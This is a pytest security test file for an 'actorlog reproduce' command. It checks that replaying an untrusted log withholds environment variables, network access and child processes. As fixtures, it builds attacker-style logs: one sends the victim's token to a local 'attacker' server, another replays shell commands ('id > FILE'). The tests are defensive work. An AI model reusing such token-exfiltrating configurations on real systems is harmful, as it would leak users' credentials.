@@ -1,0 +1,272 @@
+"""`actorlog reproduce` is safe for a log of unknown origin (issue 15, "reproduce runs what a log says").
+
+A log made by someone else decides, through its recorded config and messages, what a
+reproduced plugin does. These logs are made here the way an attacker would (real systems,
+real plugins), then reproduced by the real ``actorlog`` command in a subprocess, as a
+victim would, with the victim's secret in its environment: the plugin gets no environment
+variables, no network and no child processes unless the victim allows each.
+"""
+
+from __future__ import annotations
+
+import json
+import os
+import threading
+import urllib.request
+from collections.abc import Iterator
+from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from actor_helpers import read_log
+from actorlog.actors import ActorSystem, Plugin, handler
+from actorlog.actors.examples.llm import Generate, GenerationError, LLMPlugin
+from actorlog.actors.examples.sandbox import RunCommand, SandboxPlugin
+from actorlog.events import Message, register
+from actorlog.replay.reproduce import reproduce
+from actorlog.store import EventStore
+from replay_helpers import run_cli
+from sandbox_helpers import config as sandbox_config
+from sandbox_helpers import outside_dir
+
+VICTIM_SECRET = "victim-" + "Qm9vdHN0cmFwVG9rZW4xMjM0NTY3ODkw"
+"""The victim's token, in the environment of the ``actorlog reproduce`` the victim runs."""
+
+pytestmark = pytest.mark.slow
+
+
+class AttackerServer:
+    """An HTTP server on 127.0.0.1 that answers 500 to everything and records every request's
+    headers. Bounded: it stops itself after ``lifetime`` seconds if the test has not."""
+
+    def __init__(self, lifetime: float = 120.0) -> None:
+        self.requests: list[dict[str, str]] = []
+        self._lock = threading.Lock()
+        outer = self
+
+        class Handler(BaseHTTPRequestHandler):
+            protocol_version = "HTTP/1.1"
+
+            def log_message(self, format: str, *args: Any) -> None:  # noqa: A002 - the base class's name
+                """Quiet."""
+
+            def do_POST(self) -> None:  # noqa: N802 - http.server's naming
+                self.rfile.read(int(self.headers.get("Content-Length", "0")))
+                with outer._lock:
+                    outer.requests.append(dict(self.headers.items()))
+                body = b'{"error": "try again"}'
+                self.send_response(500)
+                self.send_header("Content-Type", "application/json")
+                self.send_header("Content-Length", str(len(body)))
+                self.end_headers()
+                self.wfile.write(body)
+
+        self._server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
+        self._server.daemon_threads = True
+        self._thread = threading.Thread(target=self._server.serve_forever, kwargs={"poll_interval": 0.02}, daemon=True)
+        self._stopper = threading.Timer(lifetime, self._server.shutdown)
+        self._stopper.daemon = True
+
+    @property
+    def base_url(self) -> str:
+        host, port = self._server.server_address[:2]
+        return f"http://{host!s}:{port}/v1"
+
+    @property
+    def port(self) -> int:
+        return int(self._server.server_address[1])
+
+    def seen(self) -> list[dict[str, str]]:
+        with self._lock:
+            return list(self.requests)
+
+    def forget(self) -> None:
+        with self._lock:
+            self.requests.clear()
+
+    def __enter__(self) -> AttackerServer:
+        self._thread.start()
+        self._stopper.start()
+        return self
+
+    def __exit__(self, *exc: object) -> None:
+        self._stopper.cancel()
+        self._server.shutdown()
+        self._server.server_close()
+        self._thread.join(timeout=10)
+
+
+@pytest.fixture
+def attacker(monkeypatch: pytest.MonkeyPatch) -> Iterator[AttackerServer]:
+    monkeypatch.setenv("NO_PROXY", "127.0.0.1")
+    monkeypatch.setenv("no_proxy", "127.0.0.1")
+    with AttackerServer() as server:
+        yield server
+
+
+def victim_env(**extra: str) -> dict[str, str]:
+    """The victim's environment: theirs, with their token in it."""
+    return {**os.environ, "VICTIM_TOKEN": VICTIM_SECRET, "NO_PROXY": "127.0.0.1", "no_proxy": "127.0.0.1", **extra}
+
+
+def evil_llm_log(path: Path, server: AttackerServer, monkeypatch: pytest.MonkeyPatch) -> int:
+    """A log whose LLM plugin is pointed at the attacker's server with the key read from
+    ``VICTIM_TOKEN``; the seq of its failure. It verifies cleanly."""
+    monkeypatch.setenv("VICTIM_TOKEN", "the-attackers-own-dummy")
+    with ActorSystem(path) as system:
+        system.register("llm", LLMPlugin, config={
+            "backend": "openai", "base_url": server.base_url, "model": "m", "api_key_env": "VICTIM_TOKEN",
+        })
+        system.start()
+        with pytest.raises(GenerationError):
+            system.ask("llm", Generate(prompt="hello"), timeout=20)
+    monkeypatch.delenv("VICTIM_TOKEN")
+    server.forget()
+    (failure,) = [r.seq for r in read_log(path, kinds=["failure.raised"])]
+    with EventStore.open_readonly(path) as store:
+        assert store.verify().ok
+    return failure
+
+
+def sent_the_secret(server: AttackerServer) -> list[dict[str, str]]:
+    return [headers for headers in server.seen() if VICTIM_SECRET in json.dumps(headers)]
+
+
+def test_reproduce_does_not_send_the_victims_token_to_the_attackers_server(
+    tmp_path: Path, attacker: AttackerServer, monkeypatch: pytest.MonkeyPatch,
+) -> None:
+    """Today: the server receives ``Authorization: Bearer <the victim's token>``."""
+    path = tmp_path / "evil.db"
+    seq = evil_llm_log(path, attacker, monkeypatch)
+    done = run_cli("reproduce", path, seq, "--json", env=victim_env())
+    assert not sent_the_secret(attacker) and not attacker.seen()
+    assert done.returncode == 1, done.stderr  # not reproduced: it could not even start without the variable
+    outcome = json.loads(done.stdout)
+    assert outcome["withheld"] == ["environment", "network", "processes"]
+    assert "environment: VICTIM_TOKEN read as unset" in outcome["refused"]
+    assert any("capabilities withheld" in note for note in outcome["notes"])
+    assert any("the outcome depended on withheld capabilities" in note for note in outcome["notes"])
+    assert VICTIM_SECRET not in done.stdout + done.stderr
+
+
+def test_with_the_variable_allowed_but_not_the_network_nothing_is_sent_and_the_report_says_why(
+    tmp_path: Path, attacker: AttackerServer, monkeypatch: pytest.MonkeyPatch,
+) -> None:
+    path = tmp_path / "evil.db"
+    seq = evil_llm_log(path, attacker, monkeypatch)
+    done = run_cli("reproduce", path, seq, "--allow-env", "VICTIM_TOKEN", env=victim_env())
+    assert done.returncode == 1, done.stderr
+    assert not attacker.seen()
+    assert "withheld: environment (except VICTIM_TOKEN), network, processes" in done.stdout
+    assert f"refused: network: looking up '127.0.0.1' (port {attacker.port})" in done.stdout
+    assert "the outcome depended on withheld capabilities" in done.stdout
+    assert VICTIM_SECRET not in done.stdout + done.stderr
+
+
+def test_the_user_may_allow_what_a_trusted_log_needs(
+    tmp_path: Path, attacker: AttackerServer, monkeypatch: pytest.MonkeyPatch,
+) -> None:
+    """The same log, reproduced by someone who trusts it: each capability by its flag, or all by --trust."""
+    path = tmp_path / "evil.db"
+    seq = evil_llm_log(path, attacker, monkeypatch)
+    allowed = run_cli("reproduce", path, seq, "--allow-env", "VICTIM_TOKEN", "--allow-network", "--json",
+                      env=victim_env())
+    assert len(sent_the_secret(attacker)) == 1  # what the user asked for
+    outcome = json.loads(allowed.stdout)
+    assert outcome["withheld"] == ["environment (except VICTIM_TOKEN)", "processes"] and outcome["refused"] == []
+    attacker.forget()
+    trusted = run_cli("reproduce", path, seq, "--trust", "--json", env=victim_env())
+    assert json.loads(trusted.stdout)["withheld"] == [] and len(sent_the_secret(attacker)) == 1
+    assert VICTIM_SECRET not in allowed.stdout + trusted.stdout  # the report shows no more than the log did
+
+
+def test_reproduce_does_not_run_the_commands_a_log_recorded(tmp_path: Path) -> None:
+    """Today: two recorded RunCommand(("sh", "-c", "id > FILE")) messages are run again."""
+    path = tmp_path / "evil.db"
+    with outside_dir(mode=0o1777) as folder:
+        owned = folder / "owned"
+        with ActorSystem(path) as system:
+            system.register("sandbox", SandboxPlugin, config=sandbox_config())
+            system.start()
+            for _ in range(2):
+                assert system.ask("sandbox", RunCommand(argv=("sh", "-c", f"id > {owned}")), timeout=60).exit_code == 0
+            with pytest.raises(ValueError, match="argv is empty"):
+                system.ask("sandbox", RunCommand(argv=()), timeout=60)
+        owned.unlink()
+        (seq,) = [r.seq for r in read_log(path, kinds=["failure.raised"])]
+        done = run_cli("reproduce", path, seq, "--json", env=victim_env())
+        assert not owned.exists(), "the recorded commands ran"
+        assert done.returncode == 1, done.stderr
+        outcome = json.loads(done.stdout)
+        assert outcome["exc_type"] == "actorlog.actors.examples.sandbox.SandboxError"
+        assert "child processes are not allowed here" in outcome["message"]
+        assert "processes: asked for by the plugin" in outcome["refused"]
+        allowed = run_cli("reproduce", path, seq, "--allow-processes", "--json", env=victim_env())
+        assert allowed.returncode == 0, allowed.stdout + allowed.stderr  # reproduced, the commands run again
+        assert owned.exists()
+
+
+# -- plugins that do not ask: the process itself refuses -------------------------------------------
+
+
+@register
+class Reach(Message, tag="safety.reach", frozen=True):
+    """Try ``what`` (``network``, ``process`` or ``env``) then fail, saying what happened."""
+
+    what: str
+
+
+class Reckless(Plugin):
+    """A plugin that uses the environment, the network and child processes without asking its context."""
+
+    version = "1.0.0"
+
+    @handler
+    def reach(self, message: Reach) -> None:
+        if message.what == "network":
+            try:
+                urllib.request.urlopen(self.config["url"], data=b"{}", timeout=5)  # noqa: S310 - a local test server
+            except urllib.error.HTTPError:
+                pass
+            raise RuntimeError("network: reached")
+        if message.what == "process":
+            import subprocess  # noqa: PLC0415
+
+            subprocess.run(["true"], check=True)
+            raise RuntimeError("process: ran")
+        value = os.environ.get(self.config["token_env"])
+        raise RuntimeError(f"env: {'set' if value else 'unset'}")
+
+
+def test_a_plugin_that_does_not_ask_is_refused_all_the_same(
+    tmp_path: Path, attacker: AttackerServer, monkeypatch: pytest.MonkeyPatch,
+) -> None:
+    path = tmp_path / "app.db"
+    monkeypatch.setenv("VICTIM_TOKEN", VICTIM_SECRET)
+    with ActorSystem(path) as system:
+        system.register("reckless", Reckless, config={"url": attacker.base_url, "token_env": "VICTIM_TOKEN"})
+        system.start()
+        for what in ("network", "process", "env"):
+            with pytest.raises(RuntimeError, match=f"{what[:3]}"):
+                system.ask("reckless", Reach(what=what), timeout=20)
+    attacker.forget()
+    network, process, env = [r.seq for r in read_log(path, kinds=["failure.raised"])]
+
+    refused = reproduce(path, network)
+    assert not refused.reproduced and not attacker.seen()
+    assert refused.exc_type == "urllib.error.URLError" and "network is not allowed while reproducing" in refused.message
+    assert refused.refused == (f"network: looking up '127.0.0.1' (port {attacker.port})",)
+    assert reproduce(path, network, allow_network=True).reproduced
+
+    spawned = reproduce(path, process)
+    assert not spawned.reproduced and "processes: starting 'true'" in spawned.refused  # (after the network again)
+    assert reproduce(path, process, allow_processes=True).reproduced
+
+    unset = reproduce(path, env)
+    assert not unset.reproduced and unset.message == "env: unset"
+    assert any("VICTIM_TOKEN" in note and "unset" in note for note in unset.notes)
+    assert reproduce(path, env, allow_env=["VICTIM_TOKEN"]).reproduced
+    assert os.environ["VICTIM_TOKEN"] == VICTIM_SECRET  # given back once the reproduction ended
+    assert reproduce(path, env, trust=True).reproduced and reproduce(path, env, trust=True).withheld == ()
